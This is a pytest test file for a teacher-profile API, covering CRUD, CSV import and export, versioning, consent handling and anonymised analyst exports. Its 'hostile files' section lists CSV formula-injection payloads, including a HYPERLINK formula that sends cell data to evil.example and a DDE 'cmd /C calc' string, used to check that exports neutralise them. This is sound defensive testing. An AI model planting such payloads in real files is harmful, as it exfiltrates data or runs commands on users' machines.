"""Tests of ``service/api/teachers.py``: listing, CRUD, import, export."""

from __future__ import annotations

import csv
import io
import json
import threading
import time
from collections import Counter

import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from matcher.profiles.io import COLUMNS, parse_teachers_csv
from service.models import Teacher

from .conftest import ACCOUNTS, TEACHERS, count_rows, teacher_row

COORD = ACCOUNTS["coord_n"].headers
# PATCH needs the version it edits from; "*" means "whatever is current" (tests that are not about versions).
COORD_ANY = {**COORD, "If-Match": "*"}
NEW = {"id": "x-1", "name": "Robin", "school_urn": 100049, "challenges": ["singing"], "strengths": ["composition"]}


def problem(resp, status):
    assert resp.status_code == status, resp.get_data(as_text=True)
    assert resp.mimetype == "application/problem+json"
    body = resp.get_json()
    assert body["status"] == status and body["title"] and "type" in body
    return body


def test_list_pages_and_caps(client):
    first = client.get("/api/v1/teachers?per_page=5", headers=COORD).get_json()
    assert first["total"] == len(TEACHERS["north"]) and len(first["items"]) == 5 and first["pages"] == 3
    ids = [t["id"] for p in (1, 2, 3) for t in client.get(f"/api/v1/teachers?per_page=5&page={p}", headers=COORD).get_json()["items"]]
    assert ids == sorted(TEACHERS["north"])
    problem(client.get("/api/v1/teachers?per_page=101", headers=COORD), 422)


def test_list_filters(client):
    allt = client.get("/api/v1/teachers?per_page=100", headers=COORD).get_json()["items"]
    ones = client.get("/api/v1/teachers?per_page=100&department_of_one=true", headers=COORD).get_json()["items"]
    assert {t["id"] for t in ones} == {t["id"] for t in allt if t["department_size"] <= 1}
    theme = allt[0]["challenges"][0]
    hits = client.get(f"/api/v1/teachers?per_page=100&theme={theme}", headers=COORD).get_json()["items"]
    assert {t["id"] for t in hits} == {t["id"] for t in allt if theme in t["challenges"] + t["strengths"] + t["interests"]}
    borough = allt[0]["school"]["local_authority"]
    hits = client.get("/api/v1/teachers", query_string={"local_authority": borough, "per_page": 100}, headers=COORD).get_json()["items"]
    assert hits and all(t["school"]["local_authority"] == borough for t in hits)
    body = problem(client.get("/api/v1/teachers?theme=singin", headers=COORD), 422)
    assert body["errors"][0]["field"] == "theme"
    assert client.get("/api/v1/teachers?q=n-0", headers=COORD).get_json()["total"] == 9
    assert client.get("/api/v1/teachers?q=%25", headers=COORD).get_json()["total"] == 0  # '%' is literal


def test_create_get_update(client, app):
    resp = client.post("/api/v1/teachers", json=NEW, headers=COORD)
    assert resp.status_code == 201 and resp.headers["Location"] == "/api/v1/teachers/x-1"
    resp = client.get("/api/v1/teachers/x-1", headers=COORD)
    got = resp.get_json()
    assert got["name"] == "Robin" and got["school"]["local_authority"] == "Camden" and got["version"] == 1
    patched = client.patch("/api/v1/teachers/x-1", json={"about": "Ukuleles.", "key_stages": ["KS3", "KS4"]}, headers={**COORD, "If-Match": resp.headers["ETag"]}).get_json()
    assert patched["about"] == "Ukuleles." and patched["key_stages"] == ["KS3", "KS4"] and patched["version"] == 2
    assert patched["name"] == "Robin"  # untouched fields keep their value
    problem(client.post("/api/v1/teachers", json=NEW, headers=COORD), 409)


def test_create_reports_every_bad_field(client, app):
    before = count_rows(app, Teacher)
    bad = {**NEW, "school_urn": 1, "challenges": ["singin"], "strengths": ["composition", "tecnology"]}
    body = problem(client.post("/api/v1/teachers", json=bad, headers=COORD), 422)
    fields = sorted(e["field"] for e in body["errors"])
    assert fields == ["challenges", "school_urn", "strengths"]
    assert {e["suggestion"] for e in body["errors"] if e["field"] == "challenges"} == {"singing"}
    body = problem(client.post("/api/v1/teachers", json={"id": "a b", "name": "", "school_urn": "x", "colour": 1}, headers=COORD), 422)
    assert {"id", "name", "school_urn", "colour"} <= {e["field"] for e in body["errors"]}
    problem(client.post("/api/v1/teachers", data="not json", headers={**COORD, "Content-Type": "application/json"}), 422)
    assert count_rows(app, Teacher) == before


def test_update_rejects_bad_values_and_keeps_profile(client):
    before = client.get("/api/v1/teachers/n-03", headers=COORD).get_json()
    problem(client.patch("/api/v1/teachers/n-03", json={"meeting_mode": "telepathy"}, headers=COORD_ANY), 422)
    problem(client.patch("/api/v1/teachers/n-03", json={"name": None}, headers=COORD_ANY), 422)
    problem(client.patch("/api/v1/teachers/n-03", json={"about": "a\x00b"}, headers=COORD_ANY), 422)
    assert client.get("/api/v1/teachers/n-03", headers=COORD).get_json() == before


def test_unknown_ids_are_404(client):
    problem(client.get("/api/v1/teachers/nobody", headers=COORD), 404)
    problem(client.patch("/api/v1/teachers/nobody", json={}, headers=COORD), 404)
    problem(client.delete("/api/v1/teachers/nobody", headers=COORD), 404)
    problem(client.get("/api/v1/no-such-thing", headers=COORD), 404)


def _csv(rows: list[dict]) -> str:
    out = io.StringIO()
    w = csv.DictWriter(out, fieldnames=COLUMNS)
    w.writeheader()
    for r in rows:
        w.writerow({c: r.get(c, "") for c in COLUMNS})
    return out.getvalue()


def _rows(n: int, prefix: str = "imp") -> list[dict]:
    return [
        {"id": f"{prefix}-{i}", "name": f"Teacher {i}", "school_urn": "100049", "department_size": "1", "key_stages": "KS3", "challenges": "singing", "strengths": "composition"}
        for i in range(n)
    ]


def test_import_creates_and_updates(client, app):
    rows = _rows(3)
    resp = client.post("/api/v1/teachers/import", data=_csv(rows), headers={**COORD, "Content-Type": "text/csv"})
    assert resp.get_json() == {"created": 3, "updated": 0, "total": 3, "kept_teacher_values": [], "skipped": []}
    rows[0]["name"] = "Renamed"
    resp = client.post("/api/v1/teachers/import", data="\ufeff" + _csv(rows), headers={**COORD, "Content-Type": "text/csv"})
    assert resp.get_json() == {"created": 0, "updated": 3, "total": 3, "kept_teacher_values": [], "skipped": []}
    assert client.get("/api/v1/teachers/imp-0", headers=COORD).get_json()["name"] == "Renamed"


def test_import_with_one_bad_row_stores_nothing(client, app):
    before = count_rows(app, Teacher)
    rows = _rows(5)
    rows[3]["department_size"] = "0"
    rows[3]["strengths"] = "compositon"
    body = problem(client.post("/api/v1/teachers/import", data=_csv(rows), headers={**COORD, "Content-Type": "text/csv"}), 422)
    assert {(e["row"], e["field"]) for e in body["errors"]} == {(5, "department_size"), (5, "strengths")}
    assert [e["suggestion"] for e in body["errors"] if e["field"] == "strengths"] == ["composition"]
    assert count_rows(app, Teacher) == before


def test_import_of_an_id_used_only_by_another_programme_creates_it_and_bad_encoding_is_refused(client, app):
    # Teacher ids are per programme: south's "s-01" is no concern of north's import.
    rows = _rows(2)
    rows[1]["id"] = TEACHERS["south"][0]
    resp = client.post("/api/v1/teachers/import", data=_csv(rows), headers={**COORD, "Content-Type": "text/csv"})
    assert resp.status_code == 200 and resp.get_json() == {"created": 2, "updated": 0, "total": 2, "kept_teacher_values": [], "skipped": []}
    problem(client.post("/api/v1/teachers/import", data=_csv(_rows(1)).encode("utf-16"), headers={**COORD, "Content-Type": "text/csv"}), 422)
    problem(client.post("/api/v1/teachers/import", data=b"a,b", headers={**COORD, "Content-Type": "image/png"}), 415)
    problem(client.post("/api/v1/teachers/import", data=b"", headers={**COORD, "Content-Type": "text/csv"}), 422)


def test_import_accepts_a_multipart_upload_as_curl_f_sends_it(client):
    rows = _rows(2, prefix="up")
    upload = {"file": (io.BytesIO(("\ufeff" + _csv(rows)).encode("utf-8")), "teachers.csv", "text/csv")}
    resp = client.post("/api/v1/teachers/import", data=upload, headers=COORD, content_type="multipart/form-data")
    assert resp.status_code == 200 and resp.get_json() == {"created": 2, "updated": 0, "total": 2, "kept_teacher_values": [], "skipped": []}
    as_json = {"file": (io.BytesIO(b'[{"id": "up-9", "name": "J", "school_urn": 100049, "department_size": 2, "key_stages": ["KS3"]}]'), "t.json", "application/octet-stream")}
    assert client.post("/api/v1/teachers/import", data=as_json, headers=COORD, content_type="multipart/form-data").get_json()["created"] == 1
    wrong_field = {"upload": (io.BytesIO(_csv(rows).encode()), "teachers.csv")}
    body = problem(client.post("/api/v1/teachers/import", data=wrong_field, headers=COORD, content_type="multipart/form-data"), 422)
    assert "'file'" in body["detail"]


def test_import_json(client):
    resp = client.post("/api/v1/teachers/import", json=[{**NEW, "id": "j-1", "department_size": 2, "key_stages": ["KS3"]}], headers=COORD)
    assert resp.status_code == 200 and resp.get_json()["created"] == 1


def test_export_round_trips(client):
    text = client.get("/api/v1/teachers/export", headers=COORD).get_data(as_text=True)
    report = parse_teachers_csv(text)
    assert not report.issues and sorted(p.id for p in report.profiles) == TEACHERS["north"]
    assert all(p.email.endswith("@school.example") for p in report.profiles)


def test_analyst_export_is_pseudonymised(client):
    resp = client.get("/api/v1/teachers/export", headers=ACCOUNTS["analyst_n"].headers)
    assert resp.status_code == 200
    text = resp.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))  # the analyst layout, not the import format
    assert len(rows) == len(TEACHERS["north"])
    for r in rows:
        assert r["pseudonym"].startswith("p-") and not {"id", "name", "email", "about", "school_urn"} & set(r)
    assert not any(tid in text for tid in TEACHERS["north"])
    assert "@" not in text


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(about=st.text(max_size=50), years=st.integers(-5, 60))


def test_patch_never_500s(client, about, years):
    resp = client.patch("/api/v1/teachers/n-04", json={"about": about, "years_teaching": years}, headers=COORD_ANY)
    ok = 0 <= years <= 50 and "\x00" not in about
    assert resp.status_code == (200 if ok else 422)
    if ok:
        # The library keeps one line-ending convention and trims the ends.
        assert resp.get_json()["about"] == about.replace("\r\n", "\n").replace("\r", "\n").strip()


# ---- one record: the schemas list the registry's fields ------------------------------------


def test_schemas_list_exactly_the_registry_fields():
    from matcher.profiles.fields import COLUMNS as FIELDS
    from service.api.schemas import TeacherIn, TeacherOut, TeacherPatch

    assert set(TeacherIn.model_fields) == set(FIELDS)
    assert set(TeacherPatch.model_fields) == set(FIELDS) - {"id"} | {"version"}
    assert set(TeacherOut.model_fields) - {"school", "version", "updated_at"} == set(FIELDS)


# ---- names refuse hidden characters -----------------------------------------------------------


def test_names_with_bidi_or_zero_width_characters_are_422(client, app):
    body = problem(client.post("/api/v1/teachers", json={**NEW, "name": "Robin\u202eoy"}, headers=COORD), 422)
    assert [(e["field"], "U+202E" in e["message"]) for e in body["errors"]] == [("name", True)]
    body = problem(client.patch("/api/v1/teachers/n-03", json={"name": "Sam\u200bLee"}, headers=COORD_ANY), 422)
    assert body["errors"][0]["field"] == "name" and "U+200B" in body["errors"][0]["message"]
    rows = _rows(2)
    rows[1]["name"] = "Al\u2066ex"
    body = problem(client.post("/api/v1/teachers/import", data=_csv(rows), headers={**COORD, "Content-Type": "text/csv"}), 422)
    assert [(e["row"], e["field"]) for e in body["errors"]] == [(3, "name")] and "U+2066" in body["errors"][0]["message"]


# ---- the profile's version: ETag and If-Match ------------------------------------------------


def test_get_gives_an_etag_and_a_stale_patch_is_409(client):
    resp = client.get("/api/v1/teachers/n-03", headers=COORD)
    tag = resp.headers["ETag"]
    assert tag == f'"teacher-n-03-v{resp.get_json()["version"]}"'
    first = client.patch("/api/v1/teachers/n-03", json={"about": "First."}, headers={**COORD, "If-Match": tag})
    assert first.status_code == 200 and first.headers["ETag"] != tag
    # A second client that loaded the same version does not overwrite the first one's change.
    body = problem(client.patch("/api/v1/teachers/n-03", json={"about": "Second."}, headers={**COORD, "If-Match": tag}), 409)
    assert "changed since you loaded it" in body["detail"]
    stale_version = resp.get_json()["version"]
    problem(client.patch("/api/v1/teachers/n-03", json={"about": "Second.", "version": stale_version}, headers=COORD), 409)
    assert client.get("/api/v1/teachers/n-03", headers=COORD).get_json()["about"] == "First."
    ok = client.patch("/api/v1/teachers/n-03", json={"about": "Second.", "version": stale_version + 1}, headers=COORD)
    assert ok.status_code == 200 and ok.get_json()["about"] == "Second."


def test_patch_without_a_version_is_428(client):
    body = problem(client.patch("/api/v1/teachers/n-03", json={"about": "x"}, headers=COORD), 428)
    assert "If-Match" in body["detail"]
    assert client.get("/api/v1/teachers/n-03", headers=COORD).get_json()["about"] != "x"


# ---- consent and the teacher's own edits --------------------------------------------------------

T1 = ACCOUNTS["teacher_n1"].headers


def test_a_coordinator_cannot_change_a_teachers_consent(client):
    current = client.get("/api/v1/teachers/n-01", headers=COORD).get_json()["consent_share_contact"]
    body = problem(client.patch("/api/v1/teachers/n-01", json={"consent_share_contact": not current}, headers=COORD_ANY), 403)
    assert "consent_share_contact" in body["detail"] and "teacher's own decision" in body["detail"]
    assert client.get("/api/v1/teachers/n-01", headers=COORD).get_json()["consent_share_contact"] is current
    # Sending the value unchanged (a GET-modify-PATCH client) is not a change.
    assert client.patch("/api/v1/teachers/n-01", json={"consent_share_contact": current, "about": "ok"}, headers=COORD_ANY).status_code == 200
    # The teacher decides.
    mine = client.patch("/api/v1/teachers/n-01", json={"consent_share_contact": not current}, headers={**T1, "If-Match": "*"})
    assert mine.status_code == 200 and mine.get_json()["consent_share_contact"] is (not current)
    # And the coordinator's fields stay the coordinator's.
    problem(client.patch("/api/v1/teachers/n-01", json={"previous_groupmates": ["n-05"]}, headers={**T1, "If-Match": "*"}), 403)


def _export(client) -> str:
    return client.get("/api/v1/teachers/export", headers=COORD).get_data(as_text=True)


def _import(client, text: str, **query):
    resp = client.post("/api/v1/teachers/import", data=text, query_string=query, headers={**COORD, "Content-Type": "text/csv"})
    assert resp.status_code == 200, resp.get_data(as_text=True)
    return resp.get_json()


def test_reimport_keeps_the_teachers_consent_and_own_edits(client):
    sheet = _export(client)  # the coordinator's spreadsheet, taken before the teacher's changes
    before = client.get("/api/v1/teachers/n-01", headers=COORD).get_json()
    withdrawn = not before["consent_share_contact"]
    mine = {"consent_share_contact": withdrawn, "about": "My own words.", "availability": ["tue_pm"]}
    assert client.patch("/api/v1/teachers/n-01", json=mine, headers={**T1, "If-Match": "*"}).status_code == 200

    result = _import(client, sheet)
    after = client.get("/api/v1/teachers/n-01", headers=COORD).get_json()
    assert after["consent_share_contact"] is withdrawn and after["about"] == "My own words." and after["availability"] == ["tue_pm"]
    assert result["kept_teacher_values"] == [{"row": 2, "teacher_id": "n-01", "fields": ["about", "availability", "consent_share_contact"]}]
    assert result["updated"] == len(TEACHERS["north"]) and result["skipped"] == []

    # The coordinator can choose the file's values, except consent, which stays the teacher's.
    result = _import(client, sheet, overwrite_teacher_edits="true")
    after = client.get("/api/v1/teachers/n-01", headers=COORD).get_json()
    assert after["about"] == before["about"] and after["availability"] == before["availability"]
    assert after["consent_share_contact"] is withdrawn
    assert result["kept_teacher_values"] == [{"row": 2, "teacher_id": "n-01", "fields": ["consent_share_contact"]}]


def test_a_new_teachers_consent_comes_from_the_import(client):
    rows = _rows(1, prefix="fresh")
    rows[0]["consent_share_contact"] = "yes"
    _import(client, _csv(rows))
    assert client.get("/api/v1/teachers/fresh-0", headers=COORD).get_json()["consent_share_contact"] is True
    rows[0]["consent_share_contact"] = "no"
    result = _import(client, _csv(rows))
    assert client.get("/api/v1/teachers/fresh-0", headers=COORD).get_json()["consent_share_contact"] is True
    assert result["kept_teacher_values"] == [{"row": 2, "teacher_id": "fresh-0", "fields": ["consent_share_contact"]}]


def test_two_edits_from_the_same_version_one_wins(app):
    """The version is compared and bumped in one UPDATE, so a concurrent edit cannot slip between check and write."""
    from service import db
    from service.auth import Identity
    from service.problems import Problem
    from service.services import teachers as svc

    with db.new_session(app) as s:
        version, programme_id = teacher_row(s, "n-06").version, teacher_row(s, "n-06").programme_id
    coord = Identity(user_id=1, username="coord_n", role="coordinator", programme_id=programme_id, teacher_id=None, via="token")
    with app.test_request_context():
        # Another writer bumps the version after this request has loaded the profile.
        t = svc.get_teacher_for(coord, "n-06")
        with db.new_session(app) as other:
            other.execute(sa.update(Teacher).where(Teacher.id == "n-06").values(version=version + 1, about="the other edit"))
        try:
            svc.update_teacher(coord, "n-06", {"about": "mine"}, version=version)
        except Problem as exc:
            assert exc.status == 409
        else:
            raise AssertionError("the second edit overwrote the first")
        finally:
            db.session().rollback()
        assert t.id == "n-06"
    with db.new_session(app) as s:
        assert teacher_row(s, "n-06").about == "the other edit"


# ---- hostile files and exports (issue 13) --------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3"]


def test_teacher_export_neutralises_formulas_and_reads_back(client):
    rows = _rows(len(FORMULAS), prefix="f")
    for row, name in zip(rows, FORMULAS):
        row["name"] = name
    assert client.post("/api/v1/teachers/import", data=_csv(rows), headers={**COORD, "Content-Type": "text/csv"}).status_code == 200
    text = client.get("/api/v1/teachers/export", headers=COORD).get_data(as_text=True)
    exported = {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    for row, name in zip(rows, FORMULAS):
        assert exported[row["id"]]["name"] == "'" + name
    for r in exported.values():
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values()), r
    assert {p.name for p in parse_teachers_csv(text).profiles} >= set(FORMULAS)  # the export still imports back


def test_import_of_40000_columns_is_refused_fast(client):
    text = ",".join(f"c{i}" for i in range(40_000)) + "\n" + "x," * 39_999 + "x\n"
    start = time.perf_counter()
    body = problem(client.post("/api/v1/teachers/import", data=text, headers={**COORD, "Content-Type": "text/csv"}), 422)
    assert time.perf_counter() - start < 2.0
    assert "at most 200" in body["errors"][0]["message"]


def test_import_report_of_100000_bad_rows_is_bounded(client, app):
    before = count_rows(app, Teacher)
    text = "id,name,school_urn,department_size,key_stages,challenges,strengths\n" + "".join(f"bad id {i},,100049,0,KS3,,\n" for i in range(100_000))
    resp = client.post("/api/v1/teachers/import", data=text, headers={**COORD, "Content-Type": "text/csv"})
    body = problem(resp, 422)
    assert len(resp.get_data()) < 1_000_000
    assert len(body["errors"]) == 1000 and body["truncated"] is True
    assert body["issue_count"] >= 300_000 and body["issues_by_field"]["department_size"] == 100_000
    assert "the first 1000 are listed" in body["detail"]
    assert count_rows(app, Teacher) == before


def test_analyst_export_is_k_anonymous(client, app):
    from service.services.analyst import K, SUPPRESSED, TEACHER_QUASI

    text = client.get("/api/v1/teachers/export", headers=ACCOUNTS["analyst_n"].headers).get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(TEACHERS["north"])
    assert "school_urn" not in rows[0] and "name" not in rows[0] and "email" not in rows[0]
    combos = Counter(tuple(r[q] for q in TEACHER_QUASI) for r in rows)
    for combo, n in combos.items():
        assert n >= K or all(v == SUPPRESSED for v in combo), (combo, n)
    assert {r["department_size"] for r in rows} <= {"1", "2-3", "4+", SUPPRESSED}


def test_analyst_export_keeps_combinations_shared_by_five(client, app):
    """Five teachers alike (borough, department band, role, experience) keep their borough; a lone one is generalised."""
    rows = _rows(6, prefix="k")
    for r in rows:
        r.update(department_size="1", role="head_of_music", years_teaching="12")
    rows[5].update(role="non_specialist", years_teaching="1")  # a department of one, and the only one like it
    assert client.post("/api/v1/teachers/import", data=_csv(rows), headers={**COORD, "Content-Type": "text/csv"}).status_code == 200
    borough = client.get("/api/v1/schools/100049", headers=COORD).get_json()["local_authority"]
    text = client.get("/api/v1/teachers/export", headers=ACCOUNTS["analyst_n"].headers).get_data(as_text=True)
    out = Counter((r["local_authority"], r["department_size"], r["role"], r["years_teaching"]) for r in csv.DictReader(io.StringIO(text, newline="")))
    assert out[(borough, "1", "head_of_music", "10+")] >= 5
    assert not any(role == "non_specialist" and n < 5 for (_, _, role, _), n in out.items())


def _chunks(data: bytes, size: int = 4096):
    return iter([data[i : i + size] for i in range(0, len(data), size)])


def test_chunked_upload_over_the_limit_is_413_not_empty(client, app):
    app.config["MAX_CONTENT_LENGTH"] = 10_000
    big = _csv(_rows(400)).encode()
    assert len(big) > 10_000
    # gunicorn (and werkzeug's server) de-chunk the body and set wsgi.input_terminated
    gunicorn_like = {"wsgi.input_terminated": True, "CONTENT_LENGTH": ""}  # the test client would count the bytes
    headers = {**COORD, "Content-Type": "text/csv", "Transfer-Encoding": "chunked"}
    resp = client.post("/api/v1/teachers/import", input_stream=io.BytesIO(big), headers=headers, environ_overrides=gunicorn_like)
    body = problem(resp, 413)
    assert "10,000 bytes" in body["detail"] and "empty" not in body["detail"]
    small = _csv(_rows(3, prefix="c")).encode()
    ok = client.post("/api/v1/teachers/import", input_stream=io.BytesIO(small), headers=headers, environ_overrides=gunicorn_like)
    assert ok.status_code == 200 and ok.get_json()["created"] == 3
    # exactly at the limit is fine
    app.config["MAX_CONTENT_LENGTH"] = len(small)
    again = client.post("/api/v1/teachers/import", input_stream=io.BytesIO(small), headers=headers, environ_overrides=gunicorn_like)
    assert again.status_code == 200 and again.get_json()["updated"] == 3
    # a server that cannot terminate a chunked body: ask for a length instead of reading nothing
    problem(client.post("/api/v1/teachers/import", input_stream=io.BytesIO(small), headers=headers, environ_overrides={"CONTENT_LENGTH": ""}), 411)


def test_chunked_upload_over_the_limit_on_a_real_socket(app):
    import http.client

    from werkzeug.serving import make_server

    app.config["MAX_CONTENT_LENGTH"] = 10_000
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        conn = http.client.HTTPConnection("127.0.0.1", server.server_port, timeout=30)
        conn.request("POST", "/api/v1/teachers/import", body=_chunks(_csv(_rows(400)).encode()), headers={**COORD, "Content-Type": "text/csv"}, encode_chunked=True)
        resp = conn.getresponse()
        data = json.loads(resp.read())
        assert resp.status == 413 and resp.getheader("Content-Type") == "application/problem+json", data
        assert "larger than the limit" in data["detail"]
        conn.close()
    finally:
        server.shutdown()
        thread.join(10)


def test_two_identical_imports_at_once_never_500(app, caplog):
    import logging

    from .test_api_peers import _together

    caplog.set_level(logging.DEBUG)
    before = count_rows(app, Teacher)
    for attempt in range(3):
        rows = _rows(300, prefix=f"twice{attempt}")
        for r in rows:
            r.update(name=f"Secret Name {r['id']}", email=f"{r['id']}@private.example")
        text = _csv(rows)
        responses = _together(app, 2, lambda c, text=text: c.post("/api/v1/teachers/import", data=text, headers={**COORD, "Content-Type": "text/csv"}))
        statuses = sorted(r.status_code for r in responses)
        assert statuses in ([200, 200], [200, 409]), (attempt, [r.get_data(as_text=True)[:300] for r in responses])
        for r in responses:
            if r.status_code == 409:
                assert r.mimetype == "application/problem+json" and "again" in r.get_json()["detail"]
    assert count_rows(app, Teacher) == before + 900
    logged = "\n".join(f"{r.getMessage()}\n{r.exc_text or ''}" for r in caplog.records)
    assert "private.example" not in logged and "Secret Name" not in logged  # types and ids, not personal data
